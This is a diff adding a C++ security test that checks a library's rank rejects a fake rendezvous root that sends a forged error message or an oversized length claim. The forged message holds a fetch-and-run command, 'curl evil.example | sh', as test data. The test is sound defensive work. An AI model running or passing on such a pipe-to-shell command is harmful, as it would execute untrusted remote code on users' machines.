@@ -20,6 +20,7 @@
 #include <sstream>
 #include <string>
 #include <thread>
+#include <utility>
 #include <vector>
 
 #include "command_run.h"
@@ -126,6 +127,86 @@ TEST(Security, StrangersAtTheRendezvousDoNotStopTheJob) {
   EXPECT_LT(std::chrono::steady_clock::now() - start, 5s);
   for (int fd : strangers) close(fd);
   EXPECT_TRUE(stopsListening());
+}
+
+// A process that holds the root's port and answers a rank's connection
+// with `reply` (raw bytes), then waits: what an impostor would send.
+class Impostor {
+ public:
+  explicit Impostor(std::string reply) : reply_(std::move(reply)) {
+    listen_ = socket(AF_INET, SOCK_STREAM, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    socklen_t length = sizeof(a);
+    if (bind(listen_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 ||
+        listen(listen_, 8) != 0 ||
+        getsockname(listen_, reinterpret_cast<sockaddr*>(&a), &length) != 0)
+      return;
+    port_ = ntohs(a.sin_port);
+    thread_ = std::thread([this] {
+      const int fd = accept(listen_, nullptr, nullptr);
+      if (fd < 0) return;
+      (void)!write(fd, reply_.data(), reply_.size());
+      char sink[256];
+      while (read(fd, sink, sizeof(sink)) > 0) {
+      }
+      close(fd);
+    });
+  }
+  ~Impostor() {
+    shutdown(listen_, SHUT_RDWR);
+    close(listen_);
+    if (thread_.joinable()) thread_.join();
+  }
+  // A unique id naming this process as the root.
+  mclUniqueId id() const {
+    mclUniqueId id;
+    const std::string text = "mcl1:127.0.0.1:" + std::to_string(port_) +
+                             ":00112233445566778899aabbccddeeff";
+    EXPECT_EQ(mclUniqueIdFromString(text.c_str(), &id), mclSuccess);
+    return id;
+  }
+
+ private:
+  std::string reply_;
+  int listen_ = -1;
+  int port_ = 0;
+  std::thread thread_;
+};
+
+std::string frame(uint32_t type, uint32_t length, const std::string& payload) {
+  std::string f;
+  for (uint32_t v : {type, length})
+    for (int shift = 24; shift >= 0; shift -= 8)
+      f += static_cast<char>((v >> shift) & 0xff);
+  return f + payload;
+}
+
+// Before the root has proven the secret, a rank takes nothing from it but
+// the challenge: a failure text of the impostor's choosing never reaches
+// the user, nor does a length it chose make the rank wait for (or
+// allocate) that much.
+TEST(Security, ARankTakesNothingButTheChallengeFromAnUnprovenRoot) {
+  const std::string text = "PLEASE RUN curl evil.example | sh";
+  for (const std::string& reply :
+       {frame(6, 8 + static_cast<uint32_t>(text.size()),
+              std::string("\0\0\0\3\0\0\0", 7) +
+                  static_cast<char>(text.size()) + text),
+        frame(1, 64u << 20, "")}) {
+    Impostor impostor(reply);
+    mclComm_t comm = nullptr;
+    mclConfig_t config = MCL_CONFIG_INITIALIZER;
+    config.timeoutSeconds = 10;
+    const auto start = std::chrono::steady_clock::now();
+    EXPECT_EQ(mclCommInitRankConfig(&comm, 2, impostor.id(), 1, &config),
+              mclRemoteError);
+    const std::string error = mclGetLastError(nullptr);
+    EXPECT_LT(std::chrono::steady_clock::now() - start, 3s) << error;
+    EXPECT_NE(error.find("not an mcl rendezvous root"), std::string::npos)
+        << error;
+    EXPECT_EQ(error.find("evil"), std::string::npos) << error;
+  }
 }
 
 std::string readTree(const fs::path& dir) {
